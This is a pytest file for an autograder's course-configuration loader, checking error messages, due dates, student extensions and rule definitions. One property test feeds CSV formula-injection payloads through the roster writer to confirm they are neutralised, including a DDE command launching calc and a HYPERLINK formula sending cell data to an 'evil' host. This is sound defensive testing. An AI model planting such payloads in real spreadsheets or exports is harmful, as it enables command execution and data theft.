"""grader.toml: a mistake in it is one line that names key, value and remedy; lateness is exact."""

from __future__ import annotations

import csv
import io
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from pathlib import Path
from tempfile import TemporaryDirectory

import pytest
from hypothesis import given
from hypothesis import strategies as st

from autograder import course
from autograder.course import Course, CourseError, people, roster
from autograder.course.packing import as_toml
from autograder.rules import Rule

SOUND = """
[course]
name = "Convolution"

[assignments.lab]
title = "Lab"
due = 2026-10-12T23:59:00+02:00

[[assignments.lab.questions]]
name = "corr2d"
title = "Correlation"
points = 4
"""
ANOTHER = '[[assignments.lab.questions]]\nname = "{name}"\ntitle = "T"\npoints = 1\n{rest}\n'
DUE = datetime(2026, 10, 12, 21, 59, tzinfo=UTC)
MINUTE, DAY = timedelta(minutes=1), timedelta(days=1)


def written(folder: Path, text: str | bytes) -> Path:
    path = folder / "grader.toml"
    path.write_bytes(text if isinstance(text, bytes) else text.encode())
    return path


def loaded(folder: Path, text: str) -> Course:
    return course.load(written(folder, text))


def problems(path: Path) -> list[str]:
    with pytest.raises(CourseError) as caught:
        course.load(path)
    assert str(caught.value) == "\n".join(f"{path}: {line}" for line in caught.value.problems)
    assert all("\n" not in line for line in caught.value.problems), "one mistake, one line"
    return caught.value.problems


@dataclass(frozen=True)
class Mistake:
    """A grader.toml with one mistake, and the one line about it."""

    what: str
    text: str
    line: str


def changed(old: str, new: str) -> str:
    assert old in SOUND
    return SOUND.replace(old, new)


ZONE = "is not a time with its zone; write for example 2026-10-12T23:59:00+02:00"
MISTAKES = [
    Mistake("an unknown key of a question", SOUND + "pionts = 3\n",
            "assignments.lab.questions[0].pionts: unknown key; did you mean 'points'?"),
    Mistake("an unknown key like no other", SOUND + "zzz = 3\n",
            "assignments.lab.questions[0].zzz: unknown key; "
            "known are: name, title, concept, points, kind, rubric, defines, uses, forbid, bonus"),
    Mistake("an unknown key of the limits", SOUND + "[assignments.lab.limits]\ncal_seconds = 3\n",
            "assignments.lab.limits.cal_seconds: unknown key; did you mean 'call_seconds'?"),
    Mistake("an unknown key of an assignment called as a table is", SOUND.replace(
            "assignments.lab", "assignments.limits").replace("due =", "points ="),
            "assignments.limits.points: unknown key; known are: title, due"),
    Mistake("an unknown key of a problem", SOUND + "[assignments.lab.questions.performance]\n"
            'of = "a"\nproblems = [{ tensors = [[1]], nmbers = [] }]\n',
            "assignments.lab.questions[0].performance.problems[0].nmbers: unknown key; "
            "did you mean 'numbers'?"),
    Mistake("an unknown table", SOUND + '[storr]\nurl = "sqlite:///x"\n',
            "storr: unknown key; did you mean 'store'?"),
    Mistake("an unknown key of the course", changed('name = "Conv', 'langage = "en"\nname = "Conv'),
            "langage: unknown key; did you mean 'language'?"),
    Mistake("a key in the wrong table", changed("due =", "points ="),
            "assignments.lab.points: unknown key; known are: title, due"),
    Mistake("a key of [course] that also stands outside", 'language = "en"\n' + changed(
            'name = "Conv', 'language = "en"\nname = "Conv'),
            "course.language: also stands outside [course]; keep one"),
    Mistake("a course that is no table", changed("[course]\nname =", "course ="),
            "course: must be a table; write [course]"),
    Mistake("a word for a number", changed("points = 4", 'points = "four"'),
            "assignments.lab.questions[0].points: input should be a valid decimal (it is 'four')"),
    Mistake("a number for a word", changed('title = "Lab"', "title = 3"),
            "assignments.lab.title: input should be a valid string (it is 3)"),
    Mistake("one table where several belong", changed("[[assignments.lab.questions]]",
            "[assignments.lab.questions]"),
            "assignments.lab.questions: input should be a valid list"),
    Mistake("points below zero", changed("points = 4", "points = -4"),
            "assignments.lab.questions[0].points: input should be greater than 0 (it is -4)"),
    Mistake("points that are no number", changed("points = 4", "points = nan"),
            "assignments.lab.questions[0].points: input should be a finite number (it is NaN)"),
    Mistake("a share above one", SOUND + "[late]\nper_day = 10\n",
            "late.per_day: input should be less than or equal to 1 (it is 10)"),
    Mistake("half a minute", SOUND + "[late]\ngrace_minutes = 30.5\n",
            "late.grace_minutes: input should be a valid integer, "
            "got a number with a fractional part (it is 30.5)"),
    Mistake("missing points", changed("points = 4\n", ""),
            "assignments.lab.questions[0].points: missing; add it"),
    Mistake("a missing name", changed('name = "Convolution"', ""), "name: missing; add it"),
    Mistake("no assignment", '[course]\nname = "C"\n', "assignments: missing; add it"),
    Mistake("no question", '[course]\nname = "C"\n[assignments.lab]\ntitle = "L"\nquestions = []\n',
            "assignments.lab.questions: list should have at least 1 item after validation, not 0"),
    Mistake("a due date without its zone", changed("+02:00", ""),
            f"assignments.lab.due: '2026-10-12 23:59:00' {ZONE}"),
    Mistake("a due date without its time", changed("T23:59:00+02:00", ""),
            f"assignments.lab.due: '2026-10-12' {ZONE}"),
    Mistake("a due date in words", changed("2026-10-12T23:59:00+02:00", '"tomorrow"'),
            f"assignments.lab.due: 'tomorrow' {ZONE}"),
    Mistake("an extension without its zone", SOUND + "[extensions.ann]\nlab = 2026-10-20T12:00:00",
            f"extensions.ann.lab: '2026-10-20 12:00:00' {ZONE}"),
    Mistake("a zone that there is not", changed(
            'name = "Conv', 'timezone = "Berlin"\nname = "Conv'),
            "timezone: no zone of the time-zone database; write for example Europe/Berlin "
            "(it is 'Berlin')"),
    Mistake("two extensions of one student",
            SOUND + '[extensions."Zo\u00eb"]\nlab = 2026-10-20T12:00:00Z\n'
            '[extensions." ZOE\u0308"]\nlab = 2026-10-21T12:00:00Z\n',
            "the file: extensions.Zo\u00eb and extensions. ZOE\u0308 are one student; keep one of "
            "them"),
    Mistake("an extension of an unknown assignment",
            SOUND + "[extensions.ann]\nlabb = 2026-10-20T12:00:00Z\n",
            "the file: extensions.ann names the assignment labb, which is not in this course; "
            "did you mean 'lab'?"),
    Mistake("a question that stands twice", SOUND + ANOTHER.format(name="corr2d", rest=""),
            "assignments.lab: question corr2d stands twice; give each its own name"),
    Mistake("a graded name that stands twice",
            SOUND + ANOTHER.format(name="more", rest='defines = ["corr2d"]'),
            "assignments.lab: graded name corr2d stands twice; give each its own name"),
    Mistake("a question that uses what none defines",
            SOUND + ANOTHER.format(name="more", rest='uses = ["corr2"]'),
            "assignments.lab: question more uses corr2, which no question defines; "
            "did you mean 'corr2d'?"),
    Mistake("a question's name that Python cannot have", changed('"corr2d"', '"2d"'),
            "assignments.lab.questions[0].name: string should match pattern "
            "'^[A-Za-z_][A-Za-z0-9_]*$' (it is '2d')"),
    Mistake("an assignment's name that Python cannot have", SOUND.replace(".lab", '."my-lab"'),
            "assignments.my-lab: string should match pattern "
            "'^[A-Za-z_][A-Za-z0-9_]*$' (it is 'my-lab')"),
    Mistake("an unknown rule", SOUND + 'forbid = ["loop"]\n',
            "assignments.lab.questions[0].forbid[0]: no rule is called 'loop'; did you mean "
            "'loops'?"),
    Mistake("a rule like no other", SOUND + 'forbid = ["no softmax"]\n',
            "assignments.lab.questions[0].forbid[0]: no rule is called 'no softmax'; there are: "
            "convolution operators, pooling operators, unfold operators, autograd, loops. A new "
            'one is a table [rules."no softmax"]'),
    Mistake("a rule with a misspelt key", SOUND + '[rules.softmax]\noperator = ["softmax"]\n',
            "rules.softmax.operator: unknown key; did you mean 'operators'?"),
    Mistake("a rule that forbids nothing", SOUND + "[rules.softmax]\n",
            "rules.softmax: it forbids nothing; give it operators, calls, autograd or loops, as in "
            'operators = ["softmax*"]'),
    Mistake("a rule of a name that is taken", SOUND + '[rules.loops]\noperators = ["softmax"]\n',
            "rules.loops: autograder has a rule of this name; call yours something else"),
    Mistake("a call without its module", SOUND + '[rules.inverse]\ncalls = ["inv"]\n',
            "rules.inverse.calls[0]: string should match pattern"),
    Mistake("an unknown tier", SOUND + '[sandbox]\nrequire = "namespace"\n',
            "sandbox.require: 'namespace' is not one of 'namespaces', 'landlock' or 'none'; "
            "did you mean 'namespaces'?"),
    Mistake("a store that is a path", SOUND + '[store]\nurl = "grades.db"\n',
            "store.url: not a database URL; write for example sqlite:///results/grades.db "
            "(it is 'grades.db')"),
    Mistake("a key that stands twice", SOUND + "points = 5\n",
            "not valid TOML: Cannot overwrite a value (at line 13, column 11)"),
    Mistake("a due date that is no time, where the zone is said", changed(
            "2026-10-12T23:59:00+02:00", '"tomorrow"').replace(
                "name = \"Conv", 'timezone = "Europe/Berlin"\nname = "Conv'),
            "assignments.lab.due: 'tomorrow' is not a time; write for example 2026-10-12T23:59:00, "
            "as clocks in the course's timezone show it"),
    Mistake("what is no TOML", SOUND + "points 5\n",
            "not valid TOML: Expected '=' after a key in a key/value pair (at line 13, column 8)"),
]


@pytest.mark.parametrize("mistake", MISTAKES, ids=lambda mistake: mistake.what)
def test_a_mistake_is_one_line_with_key_value_and_remedy(mistake: Mistake, tmp_path: Path) -> None:
    [line] = problems(written(tmp_path, mistake.text))
    assert line.startswith(mistake.line)


def test_the_file_without_a_mistake_loads(tmp_path: Path) -> None:
    """Else nothing above would say that it was the mistake that was found."""
    assert loaded(tmp_path, SOUND).assignment("lab").questions[0].points == 4


def test_every_mistake_of_a_file_is_said_at_once(tmp_path: Path) -> None:
    text = changed("points = 4", "pionts = 4").replace("+02:00", "")
    assert len(problems(written(tmp_path, text))) == 3  # naive due, missing points, unknown key


def test_a_file_that_is_not_there_a_directory_and_bytes_are_named(tmp_path: Path) -> None:
    assert problems(tmp_path / "grader.toml") == [
        "no such file; run inside a course, or name it by --course"]
    assert problems(tmp_path) == ["cannot be read: Is a directory"]
    latin = written(tmp_path, SOUND.encode() + "# Prüfung\n".encode("latin-1"))
    assert problems(latin) == [f"not UTF-8 text at byte {len(SOUND) + 4}; save it as UTF-8"]


def test_a_number_is_no_due_date(tmp_path: Path) -> None:
    problems(written(tmp_path, changed("2026-10-12T23:59:00+02:00", "20261012")))


def test_a_limit_is_finite(tmp_path: Path) -> None:
    problems(written(tmp_path, SOUND + "[assignments.lab.limits]\nsubmission_seconds = inf\n"))


def test_a_whole_file_comes_back_as_written(tmp_path: Path) -> None:
    text = SOUND + ANOTHER.format(name="layer", rest='uses = ["corr2d"]\nbonus = true\n'
                                  'defines = ["Conv2D", "count"]\nforbid = ["loops"]') + """
        [assignments.lab.limits]
        call_seconds = 1.5
        [sandbox]
        require = "namespaces"
        [store]
        url = "postgresql://grades"
        """
    found = loaded(tmp_path, text)
    lab = found.assignment("lab")
    corr2d, layer = lab.questions
    assert (found.name, lab.name, lab.title) == ("Convolution", "lab", "Lab")
    assert found.root == tmp_path.resolve()
    assert (found.sandbox.require, found.store.url) == ("namespaces", "postgresql://grades")
    assert lab.limits.call_seconds == 1.5
    assert lab.limits.cell_seconds == 10, "what is not said keeps its default"
    assert lab.points == 4, "a bonus question adds nothing to what is possible"
    assert lab.names == ["corr2d", "Conv2D", "count"]
    assert (corr2d.names, layer.names) == (["corr2d"], ["Conv2D", "count"])
    assert lab.owner("count") == layer
    assert lab.owner("conv3d") is None
    again = Course.model_validate(found.model_dump(mode="json"))
    assert again.model_dump() == found.model_dump()


def test_points_are_exact_decimals(tmp_path: Path) -> None:
    lab = loaded(tmp_path, changed("points = 4", "points = 0.1")
                 + ANOTHER.format(name="more", rest="").replace("1", "0.2")).assignment("lab")
    assert lab.points == Decimal("0.3")


def test_an_unknown_assignment_is_answered_by_its_neighbours(tmp_path: Path) -> None:
    with pytest.raises(KeyError, match=r"no assignment 'lap'.*did you mean 'lab'.*there are: lab"):
        loaded(tmp_path, SOUND).assignment("lap")


def test_a_question_is_asked_for_by_its_name(tmp_path: Path) -> None:
    lab = loaded(tmp_path, SOUND).assignment("lab")
    assert lab.question("corr2d") is lab.questions[0]
    with pytest.raises(KeyError, match=r"no question 'cor2d' in lab; did you mean 'corr2d'"):
        lab.question("cor2d")


def test_an_extension_moves_the_due_date_of_one_student(tmp_path: Path) -> None:
    found = loaded(tmp_path, SOUND + "[extensions.ann]\nlab = 2026-10-20T12:00:00Z\n")
    assert found.due("lab", "ben") == DUE
    assert found.due("lab", "ann") == datetime(2026, 10, 20, 12, tzinfo=UTC)
    endless = loaded(tmp_path, changed("due = 2026-10-12T23:59:00+02:00\n", ""))
    assert endless.due("lab", "ann") is None


def test_dates_without_an_offset_are_by_the_courses_clocks(tmp_path: Path) -> None:
    text = changed('name = "Conv', 'timezone = "Europe/Berlin"\nname = "Conv').replace("+02:00", "")
    found = loaded(tmp_path, text + "[extensions.ann]\nlab = 2026-10-26T23:59:00\n")
    assert found.due("lab", "ben") == DUE
    assert found.due("lab", "ann") == datetime(2026, 10, 26, 22, 59, tzinfo=UTC)  # in winter


FORMULAS = ["", "@SUM(1+9)*cmd|' /C calc'!A0", '=HYPERLINK("http://evil/?"&C2;"click")', "'=1",
            "''+1", "a;-b", "Ben'-Ami", "O'Hara", "\uff1d1"]


@given(st.lists(st.sampled_from(FORMULAS) | st.text("ab=+-@;,|'\" ", max_size=8),
                min_size=3, max_size=3))
def test_no_name_of_the_people_is_a_formula_and_each_is_read_as_it_is(texts: list[str]) -> None:
    name, section, login = (" ".join(each.split()) for each in texts)
    person = roster.Person("ann", name, section=section, ids={"login": login} if login else {})
    text = roster.written([person])
    for separator in ",;\t":
        for row in csv.reader(io.StringIO(text), delimiter=separator):
            assert not [cell for cell in row if cell.lstrip().startswith(tuple("=+-@＝"))]
    with TemporaryDirectory() as folder:
        course = loaded(Path(folder), SOUND)
        (Path(folder) / "people.csv").write_text(text, encoding="utf-8")
        assert roster.load(course).people == {"ann": person}
        assert roster.written(roster.load(course).people.values()) == text


@pytest.mark.parametrize("name", ["ann", " Ann", "ANN ", "a\u200bnn", "\uff41nn"])
def test_an_extension_is_found_by_whatever_spelling(name: str, tmp_path: Path) -> None:
    found = loaded(tmp_path, SOUND + f'[extensions."{name}"]\nlab = 2026-10-20T12:00:00Z\n')
    assert found.due("lab", "ann") == datetime(2026, 10, 20, 12, tzinfo=UTC)
    assert found.due("lab", "anna") == DUE


def test_an_extension_to_an_earlier_date_takes_nothing_and_is_told(tmp_path: Path) -> None:
    found = loaded(tmp_path, SOUND + "[extensions.ann]\nlab = 2025-10-20T12:00:00Z\n")
    assert found.due("lab", "ann") == DUE
    assert people.not_later(found.extensions, "lab", DUE) == [
        "extensions.ann: 2025-10-20T12:00:00+00:00 is not later than the due date, "
        "2026-10-12T21:59:00+00:00, which counts; give a later one, or take it away"]


def test_who_is_nobody_is_told_with_near_names() -> None:
    typed, others = people.strangers(["annna", "ben", "zoe"], ["anna", "Ben ", "cyd"])
    assert typed == ["'annna' is nobody here; did you mean 'anna'?"] and others == ["zoe"]
    assert people.strangers(["20011"], ["20001"]) == ([], ["20011"])  # a number is like many


def test_a_course_that_is_made_of_anothers_assignments_has_the_rules_these_need(
    tmp_path: Path,
) -> None:
    text = SOUND + ('forbid = ["no softmax", "loops"]\n[rules."no softmax"]\n'
                    'operators = ["*softmax*"]\ncalls = ["numpy.linalg.*", "!numpy.linalg.norm"]\n'
                    '[rules.unused]\nautograd = true\n')
    whole = loaded(tmp_path, text)
    softmax = Rule(("*softmax*",), ("numpy.linalg.*", "!numpy.linalg.norm"))
    assert whole.assignment("lab").questions[0].denied == (softmax, Rule(loops=True))
    part = Course(name="Part", assignments={"lab": whole.assignment("lab")})
    assert list(part.rules) == ["no softmax"]
    (tmp_path / "part").mkdir()
    again = loaded(tmp_path / "part", as_toml(part))
    assert again.assignment("lab").questions[0].denied == (softmax, Rule(loops=True))
